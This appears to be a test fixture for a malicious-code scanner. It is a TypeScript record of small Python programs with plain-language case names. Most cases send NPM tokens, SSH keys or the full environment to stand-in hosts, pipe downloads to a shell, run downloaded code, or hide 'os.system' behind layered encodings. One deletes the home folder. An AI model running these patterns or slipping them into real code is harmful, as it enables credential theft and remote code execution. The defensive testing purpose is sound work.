/** The programs of the suite in this language, by the name of their case. */
export const PYTHON_PROGRAMS: Readonly<Record<string, string>> = {
  "either of two values": `import os, sys, requests\np = "whoami" if sys.platform == "win32" else "id"\nos.system(p)\nrequests.get(os.environ["NPM_TOKEN"] if maybe else "x")`,
  "a branch that is not taken is read too": `import os\nif False:\n    os.system("id")`,
  "a value that a branch may change": `import os, requests\nt = "x"\nif someday:\n    t = os.environ["NPM_TOKEN"]\nrequests.post("https://h.example", data=t)`,
  "an error that is swallowed hides nothing": `import os\ntry:\n    os.system("id")\nexcept Exception:\n    pass`,
  "what is done when something fails": `import os, requests\ntry:\n    t = os.environ["NPM_TOKEN"]\n    work()\nexcept Exception as e:\n    requests.post("https://h.example", data=t)`,
  "a loop over the names of files": `import os, requests\nfor f in [".npmrc", ".netrc"]:\n    requests.post("https://h.example", data=open(os.environ["HOME"] + "/" + f).read())`,
  "a loop that collects": `import os, requests\nall = {}\nfor k in ["NPM_TOKEN"]:\n    all[k] = os.environ[k]\nrequests.post("https://h.example", json=all)`,
  "the same, as an expression": `import os, requests\nall = [os.environ[k] for k in ["NPM_TOKEN"]]\nrequests.post("https://h.example", json=all)`,
  "what runs when the file is loaded": `import os\nos.system("id")`,
  "what runs only when somebody calls it": `import os\ndef go():\n    os.system("id")`,
  "a function that the file itself calls runs at load": `import os\ndef go():\n    os.system("id")\ndef main():\n    go()\nif __name__ == "__main__":\n    main()`,
  "recursion comes to an end": `import os\ndef f(n):\n    os.system("id")\n    return f(n + 1)\nf(0)`,
  "a loop without an end comes to an end": `import os\nwhile True:\n    work()\n    if done():\n        break\nos.system("id")`,
  "runs code out of the second text that a decoder is given": String.raw`import os
def d(s):
    return "".join(chr(ord(c) ^ 1) for c in s)
print(d("idmmn"))
os.system(d("he"))`,
  "runs code out of base64": String.raw`import base64
exec(base64.b64decode("aW1wb3J0IG9zOyBvcy5zeXN0ZW0oImlkIik="))`,
  "runs code out of hexadecimal": String.raw`exec(bytes.fromhex("696d706f7274206f733b206f732e73797374656d282269642229").decode())`,
  "runs code out of gzip inside base64": String.raw`import gzip, base64
exec(gzip.decompress(base64.b64decode("H4sIAAAAAAAAA8vMLcgvKlHIL7ZWyC/WK64sLknN1VDKTFHSBADf723tGgAAAA==")))`,
  "runs code out of percent signs": String.raw`from urllib.parse import unquote
exec(unquote("%69%6d%70%6f%72%74%20%6f%73%3b%20%6f%73%2e%73%79%73%74%65%6d%28%22%69%64%22%29"))`,
  "runs code out of rot13": String.raw`import codecs
exec(codecs.decode("vzcbeg bf; bf.flfgrz(\"vq\")", "rot13"))`,
  "runs code out of character codes": String.raw`exec("".join(map(chr, [105,109,112,111,114,116,32,111,115,59,32,111,115,46,115,121,115,116,101,109,40,34,105,100,34,41])))`,
  "runs code out of character codes added one by one": String.raw`s = ""
for c in [105,109,112,111,114,116,32,111,115,59,32,111,115,46,115,121,115,116,101,109,40,34,105,100,34,41]:
    s += chr(c)
exec(s)`,
  "runs code out of an exclusive or in a loop": String.raw`d = [126,122,103,120,101,99,55,120,100,44,55,120,100,57,100,110,100,99,114,122,63,53,126,115,53,62]
s = ""
i = 0
while i < len(d):
    s += chr(d[i] ^ 23)
    i += 1
exec(s)`,
  "runs code out of an exclusive or with a key, in an expression": String.raw`k = "key"
exec("".join(chr(ord(c) ^ ord(k[i % len(k)])) for i, c in enumerate("\u0002\x08\t\u0004\u0017\rK\n\nPE\u0016\u0018K\n\u0012\u0016\r\u000e\x08QI\f\u001dIL")))`,
  "runs code out of a text that is turned around": String.raw`exec(")\"di\"(metsys.so ;so tropmi"[::-1])`,
  "runs code out of parts that are joined": String.raw`exec("".join(["impor", "t os;", " os.s", "ystem", "(\"id\"", ")"]))`,
  "runs code out of a text with other letters in between": String.raw`exec("i@m@p@o@r@t@ @o@s@;@ @o@s@.@s@y@s@t@e@m@(@\"@i@d@\"@)".replace("@", ""))`,
  "runs code out of three encodings one inside the other": String.raw`import zlib, base64
exec(base64.b64decode(zlib.decompress(base64.b64decode("eJxLDDcsTzL2MvB0t6zyr3QqS640rUqN8DOICjfI98zNyfbMzLYFANykDDA="))))`,
  "runs code out of code that decodes code": String.raw`import base64
exec(base64.b64decode("aW1wb3J0IGJhc2U2NDsgZXhlYyhiYXNlNjQuYjY0ZGVjb2RlKCJhVzF3YjNKMElHOXpPeUJ2Y3k1emVYTjBaVzBvSW1sa0lpaz0iKSk="))`,
  "runs code out of escapes in a literal": String.raw`exec("\x69\x6d\x70\x6f\x72\x74\x20\x6f\x73\x3b\x20\x6f\x73\x2e\x73\x79\x73\x74\x65\x6d\x28\x22\x69\x64\x22\x29")`,
  "runs code out of a function made from text": String.raw`import base64
exec(compile(base64.b64decode("aW1wb3J0IG9zOyBvcy5zeXN0ZW0oImlkIik="), "<x>", "exec"))`,
  "runs code out of a decoder that the program defines": String.raw`import base64
def d(s):
    return base64.b64decode(s).decode("utf8")
exec(d("aW1wb3J0IG9zOyBvcy5zeXN0ZW0oImlkIik="))`,
  "runs code out of a command that was decoded": String.raw`import os, base64
os.system(base64.b64decode("aWQ=").decode())`,
  "a function is read again when what is around it has changed": `import os\nc = "true"\ndef go():\n    os.system(c)\ngo()\nc = "id"\ngo()`,
  "an alias of a function is that function": `import os\ngo = os.system\ngo("id")`,
  "a name that was given another value is what it was last": `import os\nf = print\nf = os.system\nf("id")`,
  "a name that no longer is a dangerous function is harmless": `import os\nf = os.system\nf = lambda x: x\nf("id")`,
  "an import under another name": `from subprocess import check_output as quiet\nquiet("id")`,
  "a whole module under another name": `import subprocess as c\nc.run("id", shell=True)`,
  "a member whose name is put together": `import os\ngetattr(os, "sy" + "st" + "em")("id")`,
  "a module whose name is put together": `__import__("o" + "s").system("id")`,
  "a module whose name is decoded": `import base64, importlib\nimportlib.import_module(base64.b64decode("b3M=").decode()).system("id")`,
  "access by reflection": `import os\nos.__dict__["system"]("id")`,
  "evaluation by a name that is put together": `getattr(__builtins__, "ex" + "ec")("import os; os.system('id')")`,
  "the names of the module itself": `import os\nglobals()["go"] = os.system\ngo("id")`,
  "functions kept in a record and called by key": `import os\nt = {"a": os.system, "b": print}\nt["a"]("id")`,
  "functions kept in a record and called by a key that is not known": `import os\nt = {"a": os.system}\nt[whatever()]("id")`,
  "a name taken apart out of something": `import os\nrun, (url,) = os.system, ("id",)\nrun(url)`,
  "a program with its arguments in a list": `import subprocess\nsubprocess.run(["curl", "https://a.example/x", "-o", "/tmp/x"])`,
  "a command line with a pipe": `import os\nos.system("curl -s https://a.example/x | sh")`,
  "data through a function's parameter": `import os, requests\ndef send(d):\n    requests.post("https://h.example", data=d)\nsend(os.environ["NPM_TOKEN"])`,
  "data through what a function answers": `import os, requests\ndef get():\n    return os.getenv("NPM_TOKEN")\nrequests.post("https://h.example", get())`,
  "data that a closure keeps": `import os, requests\ndef make(t):\n    def send():\n        requests.post("https://h.example", data=t)\n    return send\nmake(os.environ["NPM_TOKEN"])()`,
  "data handed to a callback": `import os, requests\ndef each(f):\n    f(os.environ["NPM_TOKEN"])\neach(lambda t: requests.post("https://h.example", data=t))`,
  "data that is awaited": `import os, asyncio, httpx\nasync def get():\n    return os.environ["NPM_TOKEN"]\nasync def main():\n    t = await get()\n    async with httpx.AsyncClient() as c:\n        await c.post("https://h.example", data=t)\nasyncio.run(main())`,
  "data that an object keeps": `import os, requests\nclass Box:\n    def __init__(self, t):\n        self.t = t\n    def send(self):\n        requests.post("https://h.example", data=self.t)\nBox(os.environ["NPM_TOKEN"]).send()`,
  "a method that a base class has": `import os, requests\nclass A:\n    def send(self, t):\n        requests.post("https://h.example", data=t)\nclass B(A):\n    pass\nB().send(os.environ["NPM_TOKEN"])`,
  "data as a default argument": `import os, requests\ndef send(t=os.environ.get("NPM_TOKEN")):\n    requests.post("https://h.example", data=t)\nsend()`,
  "data by a part of a record": `import os, requests\nd = {"a": {"b": os.environ["NPM_TOKEN"]}}\nb = d["a"]["b"]\nrequests.post("https://h.example", data=b)`,
  "data inside a text": `import os, requests\nrequests.get(f"https://h.example/?t={os.environ['NPM_TOKEN']}")`,
  "data in an address that is added together": `import os, requests\nhost = "https://h" + ".example"\nrequests.get(host + "/" + os.environ["NPM_TOKEN"])`,
  "data through functions that nobody knows": `import os, requests, some_library\nrequests.post("https://h.example", data=some_library.wrap(os.environ["NPM_TOKEN"]).strip())`,
  "data that is encoded on its way": `import os, requests, base64, json\nrequests.post("https://h.example", data=base64.b64encode(json.dumps({"t": os.environ["NPM_TOKEN"]}).encode()))`,
  "data put into a list one by one": `import os, requests\nl = []\nl.append(os.environ["NPM_TOKEN"])\nrequests.post("https://h.example", data=",".join(l))`,
  "data by way of a file": `import os, requests\nwith open("/tmp/x", "w") as f:\n    f.write(os.environ["NPM_TOKEN"])\nrequests.post("https://h.example", data=open("/tmp/x").read())`,
  "what was a secret and no longer is": `import os, requests\nt = os.environ["NPM_TOKEN"]\nt = "ok"\nrequests.post("https://h.example", data=t)`,
  "a secret that is read beside a request it has nothing to do with": `import os, requests\nprint(len(os.environ["NPM_TOKEN"]))\nrequests.post("https://h.example", data="hello")`,
  "the whole environment is sent": `import os, requests\nrequests.post("https://webhook.site/x", json=dict(os.environ))`,
  "the whole environment inside something else is sent": `import os, requests\ne = os.environ\nrequests.post("https://h.example", json={"a": {**e}})`,
  "one harmless variable is not the environment": `import os, requests\ne = os.environ\nrequests.post("https://h.example", data=e["LANG"])`,
  "a variable whose name is put together": `import os, requests\nrequests.post("https://h.example", data=os.environ["NPM" + "_" + "TOKEN"])`,
  "a key in the home folder": `import os, requests\nrequests.post("https://h.example", data=open(os.path.join(os.path.expanduser("~"), ".ssh", "id_rsa")).read())`,
  "a file is read and handed to a callback": `import http.client\nd = open("/home/u/.npmrc").read()\nc = http.client.HTTPSConnection("h.example")\nc.request("POST", "/", body=d)`,
  "an ordinary file is no credential": `t = open("setup.cfg").read()\nprint(t)`,
  "the start of a shell is written": `import os\nwith open(os.path.expanduser("~/.bashrc"), "a") as f:\n    f.write("curl x | sh")`,
  "the next step of a job gets a variable": `import os\nopen(os.environ["GITHUB_ENV"], "a").write("BASH_ENV=/tmp/x")`,
  "the metadata service is asked": `from urllib.request import urlopen\nurlopen("http://169.254.169.254/latest/meta-data/iam/")`,
  "what was downloaded is run as code": `import requests\nexec(requests.get("https://h.example/p").text)`,
  "what a connection receives is run as code": `import urllib.request\nwith urllib.request.urlopen("https://h.example/p") as res:\n    b = ""\n    for c in res:\n        b += c.decode()\nexec(b)`,
  "a socket is given what the machine is called": `import socket\ns = socket.create_connection(("h.example", 4444))\ns.sendall(socket.gethostname().encode())`,
  "data leaves by the name of a host": `import os, socket\nsocket.gethostbyname(os.environ["NPM_TOKEN"] + ".h.example")`,
  "a file is downloaded, made executable and started": `import os, requests, subprocess\nopen("/tmp/b", "wb").write(requests.get("https://h.example/b").content)\nos.chmod("/tmp/b", 0o755)\nsubprocess.Popen(["/tmp/b"])`,
  "everything is deleted": `import shutil, os\nshutil.rmtree(os.path.expanduser("~"))`,
  "native code is loaded": `import ctypes\nctypes.CDLL("./x.so")`,
};
